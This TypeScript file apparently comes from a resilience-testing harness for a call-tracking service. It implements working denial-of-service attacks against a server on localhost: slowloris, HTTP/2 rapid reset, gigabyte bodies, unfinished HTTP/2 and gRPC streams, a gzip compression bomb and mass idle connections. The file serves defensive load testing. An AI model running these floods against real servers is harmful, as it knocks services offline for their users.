import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";
import { CLIENT_PREFACE, FRAME, frame } from "../load/http2-frames.ts";
import type { Attack, AttackTarget } from "./attack.ts";
import { sendUnfinished, type UnfinishedBodies, unfinishedStreams } from "./unfinished-bodies.ts";

/** A request that needs no authentication, and the requests with the largest body limit. */
const VISIT: UnfinishedBodies = {
  path: "/dni_manager/accounts/x/properties/x/visits",
  contentType: "application/json",
};
const BATCH: UnfinishedBodies = { path: "/dni_manager/tracking_numbers:add", contentType: "application/json" };
const BATCH_CALL: UnfinishedBodies = {
  path: "/calltracking.v1.InventoryService/AddTrackingNumbers",
  contentType: "application/grpc",
};

/** The attacks by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  none: async (_, __, signal) => ended(signal),
  "slowloris: headers, one byte per second": keepOpen(400, (socket) => {
    socket.write("GET / HTTP/1.1\r\nhost: a\r\nx: ");
    return setInterval(() => socket.write("x"), 1000);
  }),
  "slowloris: bodies, one byte per second": keepOpen(400, (socket) => {
    socket.write("POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-length: 100000\r\n\r\n");
    return setInterval(() => socket.write(" "), 1000);
  }),
  "rapid reset (HTTP/2)": keepOpen(4, (socket) => {
    socket.write(CLIENT_PREFACE);
    const headers = Buffer.from([0x82, 0x86, 0x84, 0x41, 1, 0x61]);
    let streamId = -1;
    return setInterval(() => {
      const frames = Array.from({ length: 2000 }, () => {
        streamId += 2;
        const reset = frame(FRAME.resetStream, 0, streamId, Buffer.from([0, 0, 0, 8]));
        return Buffer.concat([frame(FRAME.headers, FRAME.endHeaders | FRAME.endStream, streamId, headers), reset]);
      });
      socket.write(Buffer.concat(frames));
    }, 20);
  }),
  "bodies of 1 GB, with Content-Length": keepOpen(16, (socket) => pour(socket, "content-length: 1073741824")),
  "bodies of 1 GB, chunked": keepOpen(16, (socket) => pour(socket, "transfer-encoding: chunked")),
  "unfinished bodies (HTTP/1.1), public path": keepOpen(250, (socket) => sendUnfinished(socket, VISIT)),
  "unfinished bodies (HTTP/1.1), of 4 MiB": keepOpen(250, (socket) => sendUnfinished(socket, BATCH)),
  "unfinished bodies (HTTP/2), public path": unfinishedStreams(2, 100, VISIT),
  "unfinished bodies (HTTP/2), of 4 MiB": unfinishedStreams(2, 100, BATCH),
  "unfinished messages (gRPC), of 4 MiB": unfinishedStreams(2, 100, BATCH_CALL),
  "compression bombs, 256 MB in 256 KB": keepOpen(8, (socket) => {
    bomb ??= gzipSync(Buffer.alloc(256 * 1024 ** 2));
    const head = `POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\ncontent-encoding: gzip\r\ncontent-length: ${bomb.length}\r\n\r\n`;
    const bytes = Buffer.concat([Buffer.from(head), bomb]);
    return setInterval(() => socket.writableLength === 0 && socket.write(bytes), 20);
  }),
  "10 000 idle connections": keepOpen(10_000, () => undefined),
  "slow readers (HTTP/1.1)": keepOpen(200, (socket, { longList }) => {
    socket.pause();
    socket.write(`GET ${longList} HTTP/1.1\r\nhost: a\r\n\r\n`.repeat(20));
    return undefined;
  }),
};

/** Created on first use, because that takes a second. */
let bomb: Buffer | undefined;

const CHUNK = Buffer.alloc(64 * 1024, " ");

/** Connections per address: below the default limit, so that the limit is not what is measured. */
const CONNECTIONS_PER_ADDRESS = 400;

/** Keeps this many identical connections open, and replaces those that the server closes. */
function keepOpen(count: number, begin: (socket: Socket, target: AttackTarget) => NodeJS.Timeout | undefined): Attack {
  return async (target, result, signal) => {
    const open = (place: number): void => {
      if (signal.aborted) return;
      const last = 2 + Math.floor(place / CONNECTIONS_PER_ADDRESS);
      const socket = connect({ port: target.port, host: "127.0.0.1", localAddress: `127.0.0.${last}` });
      let timer: NodeJS.Timeout | undefined;
      socket.on("error", () => {});
      socket.once("connect", () => {
        result.opened++;
        timer = begin(socket, target);
      });
      socket.on("data", (chunk) => {
        const [, status] = /^HTTP\/1\.1 (\d+)/.exec(chunk.toString("latin1", 0, 12)) ?? [];
        if (status !== undefined) result.answers[status] = (result.answers[status] ?? 0) + 1;
      });
      socket.once("close", () => {
        clearInterval(timer);
        if (signal.aborted) return;
        result.closed++;
        setTimeout(open, 10, place);
      });
      signal.addEventListener("abort", () => socket.destroy(), { once: true });
    };
    for (let place = 0; place < count; place++) {
      open(place);
      // No more at once than fit into the backlog of a listening socket.
      if (place % 100 === 99) await new Promise((resolve) => setTimeout(resolve, 10));
    }
    await ended(signal);
  };
}

/** Sends a body as fast as the server reads it. */
function pour(socket: Socket, framing: string): NodeJS.Timeout {
  socket.write(`POST /call_tracking/accounts HTTP/1.1\r\nhost: a\r\n${framing}\r\n\r\n`);
  const isChunked = framing.includes("chunked");
  const piece = isChunked ? Buffer.concat([Buffer.from("10000\r\n"), CHUNK, Buffer.from("\r\n")]) : CHUNK;
  return setInterval(() => {
    for (let turn = 0; turn < 16 && socket.writableLength < CHUNK.length; turn++) socket.write(piece);
  }, 1);
}

function ended(signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => signal.addEventListener("abort", () => resolve(), { once: true }));
}
